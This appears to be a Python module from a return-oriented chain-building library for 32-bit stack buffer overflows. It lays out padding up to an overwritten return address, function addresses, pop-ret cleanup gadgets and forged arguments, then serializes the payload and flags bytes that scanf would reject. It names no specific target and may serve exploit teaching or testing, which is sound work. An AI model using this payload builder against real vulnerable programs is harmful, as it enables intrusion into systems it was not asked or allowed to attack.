"""Chain planning and payload serialization.

Turns a declarative list of intended calls into the stack image that realizes
them after the overwritten return address: padding up to the saved return
address slot, then for every call its target address, the word control flows
to when the callee returns, and the forged argument words.  The layout is
fixed 32-bit cdecl with stack arguments: the callee does not pop its
arguments, which is why any non-final call that passes arguments needs a
pop-ret cleanup gadget of matching arity between itself and the next target.
The last call needs none; its return slot simply holds the final target.
"""

from __future__ import annotations

import enum
import struct
from dataclasses import dataclass

from .errors import MissingCleanupGadgetError, UnsatisfiableArityError
from .gadgets import GadgetSet

WORD_SIZE = 4
MAX_CALL_ARITY = 6
DEFAULT_PAD_BYTE = 0x41

# scanf("%s") stops at token-terminating whitespace; NUL is deliberately fine.
SCANF_BAD_BYTES = frozenset({0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x20})

# Clean-completion sentinel: never mapped in any fixture image.
EXIT_SENTINEL = 0xDEADC0DE


class Role(enum.Enum):
    PADDING = "padding"
    FUNC_ADDR = "func_addr"
    CLEANUP_GADGET = "cleanup_gadget"
    ARG = "arg"
    FINAL_TARGET = "final_target"


@dataclass(frozen=True)
class CallStep:
    target: int
    args: tuple[int, ...] = ()

    def __post_init__(self):
        if not self.target:
            raise ValueError("call target must be nonzero")
        object.__setattr__(self, "args", tuple(a & 0xFFFFFFFF for a in self.args))

    @property
    def arity(self) -> int:
        return len(self.args)


@dataclass(frozen=True)
class ChainSpec:
    calls: tuple[CallStep, ...]
    ret_offset: int
    final_target: int = EXIT_SENTINEL
    bad_bytes: frozenset[int] = frozenset()
    word_size: int = WORD_SIZE

    def __post_init__(self):
        if not self.calls:
            raise ValueError("a chain needs at least one call")
        if self.ret_offset < 0:
            raise ValueError("ret_offset must be >= 0")
        if self.word_size != WORD_SIZE:
            raise ValueError("only 4-byte words are supported")


@dataclass(frozen=True)
class LayoutWord:
    value: int
    role: Role


@dataclass(frozen=True)
class StackLayout:
    pad_len: int
    words: tuple[LayoutWord, ...]

    def values(self) -> list[int]:
        return [w.value for w in self.words]

    @property
    def total_length(self) -> int:
        return self.pad_len + WORD_SIZE * len(self.words)


@dataclass(frozen=True)
class Annotation:
    offset: int
    length: int
    role: Role
    value: int | None = None


@dataclass(frozen=True)
class Payload:
    data: bytes
    annotations: tuple[Annotation, ...]

    def role_at(self, offset: int) -> Role:
        for a in self.annotations:
            if a.offset <= offset < a.offset + a.length:
                return a.role
        raise IndexError(f"offset {offset} not covered by any annotation")


def plan_chain(
    spec: ChainSpec,
    gadgets: GadgetSet | None = None,
    max_arity: int = MAX_CALL_ARITY,
) -> StackLayout:
    """Lay out the stack words realizing ``spec``.

    Words are emitted in stack order starting at the overwritten return
    address slot, each successive word at the next higher address.  Non-final
    calls with arguments get a pop-ret cleanup gadget drawn from ``gadgets``;
    raises :class:`MissingCleanupGadgetError` when none of the right arity
    exists and :class:`UnsatisfiableArityError` past ``max_arity``.
    """
    words: list[LayoutWord] = []
    last = len(spec.calls) - 1
    for i, call in enumerate(spec.calls):
        if call.arity > max_arity:
            raise UnsatisfiableArityError(
                f"call {i} passes {call.arity} arguments (max {max_arity})"
            )
        words.append(LayoutWord(call.target, Role.FUNC_ADDR))
        if i == last:
            words.append(LayoutWord(spec.final_target, Role.FINAL_TARGET))
            words.extend(LayoutWord(a, Role.ARG) for a in call.args)
        elif call.arity == 0:
            continue  # the next call's target doubles as the return address
        else:
            gadget = gadgets.find_pop_ret(call.arity) if gadgets is not None else None
            if gadget is None:
                raise MissingCleanupGadgetError(
                    f"call {i} passes {call.arity} argument(s) mid-chain but no "
                    f"pop_ret({call.arity}) gadget is available"
                )
            words.append(LayoutWord(gadget.vaddr, Role.CLEANUP_GADGET))
            words.extend(LayoutWord(a, Role.ARG) for a in call.args)
    return StackLayout(pad_len=spec.ret_offset, words=tuple(words))


def emit_payload(layout: StackLayout, pad_byte: int = DEFAULT_PAD_BYTE) -> Payload:
    """Serialize a layout: pad bytes, then each word little-endian."""
    if not 0 <= pad_byte <= 0xFF:
        raise ValueError("pad_byte must be a byte value")
    chunks = [bytes([pad_byte]) * layout.pad_len]
    annotations = []
    if layout.pad_len:
        annotations.append(Annotation(0, layout.pad_len, Role.PADDING))
    offset = layout.pad_len
    for w in layout.words:
        chunks.append((w.value & 0xFFFFFFFF).to_bytes(WORD_SIZE, "little"))
        annotations.append(Annotation(offset, WORD_SIZE, w.role, w.value & 0xFFFFFFFF))
        offset += WORD_SIZE
    return Payload(data=b"".join(chunks), annotations=tuple(annotations))


def check_bad_bytes(payload: Payload, bad: frozenset[int] | set[int]) -> list[tuple[int, int, str]]:
    """Report every payload byte in ``bad`` as (offset, byte, role)."""
    if not bad:
        return []
    hits = []
    for offset, b in enumerate(payload.data):
        if b in bad:
            hits.append((offset, b, payload.role_at(offset).value))
    return hits


def unpack_words(payload: Payload, ret_offset: int) -> list[int]:
    """Deserialize the word region back into integers (little-endian)."""
    region = payload.data[ret_offset:]
    if len(region) % WORD_SIZE:
        raise ValueError("word region is not word-aligned")
    return [v for (v,) in struct.iter_unpack("<I", region)]
